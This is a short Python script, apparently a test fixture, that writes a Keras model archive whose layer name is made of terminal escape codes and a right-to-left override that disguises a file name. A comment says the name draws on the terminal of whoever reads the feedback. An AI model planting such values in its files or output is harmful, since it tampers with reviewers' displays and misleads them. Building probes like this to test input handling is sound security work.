# failed: the name of a layer draws on the terminal of whoever reads the feedback
import json
import zipfile

layers = [{"module": "keras.layers", "class_name": "\x1b[2J\x1b]0;title\x07\u202egnp.exe\b\b", "config": {}}]
with zipfile.ZipFile("/evidence/model.keras", "w") as archive:
    archive.writestr(
        "config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": layers}})
    )
